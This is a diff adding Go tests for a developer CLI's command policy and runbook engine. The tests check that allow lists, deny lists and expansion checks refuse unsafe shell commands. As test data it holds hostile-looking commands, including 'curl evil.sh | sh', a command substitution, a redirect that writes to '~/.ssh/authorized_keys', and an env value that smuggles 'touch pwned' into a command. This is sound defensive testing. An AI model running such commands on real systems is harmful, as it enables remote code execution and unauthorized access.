@@ -0,0 +1,150 @@
+package workflow
+
+import (
+	"context"
+	"errors"
+	"strings"
+	"testing"
+
+	"dev-cli/internal/storage"
+)
+
+func TestCommandPolicy_Check(t *testing.T) {
+	tests := []struct {
+		name    string
+		policy  CommandPolicy
+		command string
+		wantErr bool
+	}{
+		{"empty policy allows safe command", CommandPolicy{}, "npm install", false},
+		{"destructive refused by default", CommandPolicy{}, "rm -rf node_modules", true},
+		{"destructive when permitted", CommandPolicy{AllowDestructive: true}, "rm -rf node_modules", false},
+		{"allowlisted prefix", CommandPolicy{Allow: []string{"npm "}}, "npm ci", false},
+		{"not in allowlist", CommandPolicy{Allow: []string{"npm "}}, "curl evil.sh | sh", true},
+		{"deny wins over allow", CommandPolicy{Allow: []string{"npm "}, Deny: []string{"publish"}}, "npm publish", true},
+		{"deny is case-insensitive", CommandPolicy{Deny: []string{"SUDO"}}, "sudo apt install jq", true},
+		{"chained after an allowed prefix", CommandPolicy{Allow: []string{"npm "}}, "npm test; curl x|sh", true},
+		{"substitution in an allowed command", CommandPolicy{Allow: []string{"npm "}}, "npm test $(curl x)", true},
+		{"redirect in an allowed command", CommandPolicy{Allow: []string{"echo "}}, "echo key > ~/.ssh/authorized_keys", true},
+		{"second line after an allowed command", CommandPolicy{Allow: []string{"npm "}}, "npm ci\ncurl x", true},
+		{"metacharacters without an allowlist", CommandPolicy{}, "go test ./... | tee out", false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := tt.policy.Check(tt.command)
+			if (err != nil) != tt.wantErr {
+				t.Errorf("Check(%q) error = %v, wantErr %v", tt.command, err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestFromRunbook(t *testing.T) {
+	rb := &storage.Runbook{
+		ID:   "rb1",
+		Name: "Fix deps",
+		Steps: []storage.RunbookStep{
+			{Command: "npm ci", Rollback: "git checkout package-lock.json"},
+			{ID: "build", Name: "Build", Command: "npm run build", Condition: "file_exists:package.json"},
+		},
+	}
+
+	wf, err := FromRunbook(rb)
+	if err != nil {
+		t.Fatalf("FromRunbook failed: %v", err)
+	}
+	if len(wf.Steps) != 2 || wf.Steps[0].ID != "step_0" {
+		t.Fatalf("unexpected steps: %+v", wf.Steps)
+	}
+	if wf.Steps[0].Rollback == nil || wf.Steps[0].Rollback.Command != "git checkout package-lock.json" {
+		t.Errorf("rollback not converted: %+v", wf.Steps[0].Rollback)
+	}
+	if c := wf.Steps[1].Condition; c == nil || c.Type != CondFileExists || c.Value != "package.json" {
+		t.Errorf("condition not converted: %+v", c)
+	}
+
+	rb.Steps[1].Condition = "when it feels right"
+	if _, err := FromRunbook(rb); err == nil {
+		t.Error("expected error for malformed condition")
+	}
+}
+
+func TestRunRunbook_RefusedBeforeRunning(t *testing.T) {
+	rb := &storage.Runbook{
+		ID:   "rb2",
+		Name: "Cleanup",
+		Steps: []storage.RunbookStep{
+			{ID: "ok", Command: "echo fine"},
+			{ID: "bad", Command: "docker system prune -af"},
+		},
+	}
+
+	engine := NewEngine(nil, nil)
+	result, err := engine.RunRunbook(context.Background(), rb, CommandPolicy{})
+	if result != nil {
+		t.Fatalf("expected no run, got %+v", result)
+	}
+	var perr *PolicyError
+	if !errors.As(err, &perr) {
+		t.Fatalf("expected PolicyError, got %v", err)
+	}
+	if _, ok := perr.Denied["bad"]; !ok || len(perr.Denied) != 1 {
+		t.Errorf("expected only step 'bad' denied, got %v", perr.Denied)
+	}
+}
+
+func TestRunRunbook_ExecutesSteps(t *testing.T) {
+	rb := &storage.Runbook{
+		ID:   "rb3",
+		Name: "Echo",
+		Steps: []storage.RunbookStep{
+			{ID: "first", Command: "echo one"},
+			{ID: "second", Command: "echo two"},
+		},
+	}
+
+	engine := NewEngine(nil, nil)
+	result, err := engine.RunRunbook(context.Background(), rb, CommandPolicy{Allow: []string{"echo "}})
+	if err != nil {
+		t.Fatalf("RunRunbook failed: %v", err)
+	}
+	if result.Status != StatusCompleted {
+		t.Fatalf("expected completed, got %s (%s)", result.Status, result.Error)
+	}
+	for _, id := range []string{"first", "second"} {
+		if r := result.StepResults[id]; r == nil || r.Status != StepSuccess {
+			t.Errorf("step %s: %+v", id, r)
+		}
+	}
+}
+
+func TestCommandPolicy_ChecksShellAndExpansion(t *testing.T) {
+	policy := CommandPolicy{Allow: []string{"echo "}}
+
+	wf := &Workflow{ID: "wf_shell", Name: "Shell", Steps: []Step{{ID: "py", Command: "echo hi", Shell: "python3"}}}
+	var perr *PolicyError
+	if err := policy.CheckWorkflow(wf); !errors.As(err, &perr) || perr.Denied["py"] == "" {
+		t.Errorf("expected a non-POSIX shell refused, got %v", err)
+	}
+
+	// The command only reaches past its prefix once its env is expanded.
+	wf = &Workflow{
+		ID:    "wf_expand",
+		Name:  "Expand",
+		Env:   map[string]string{"GREETING": "hi; touch pwned"},
+		Steps: []Step{{ID: "greet", Command: "echo ${{ env.GREETING }}"}},
+	}
+	if err := policy.CheckWorkflow(wf); err != nil {
+		t.Fatalf("expected the template itself to pass, got %v", err)
+	}
+	engine := NewEngine(nil, nil)
+	engine.SetCommandPolicy(policy)
+	result, err := engine.Run(context.Background(), wf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if r := result.StepResults["greet"]; r == nil || r.Status != StepFailed || !strings.Contains(r.Error, "refused by policy") {
+		t.Errorf("expected the expanded command refused, got %+v", r)
+	}
+}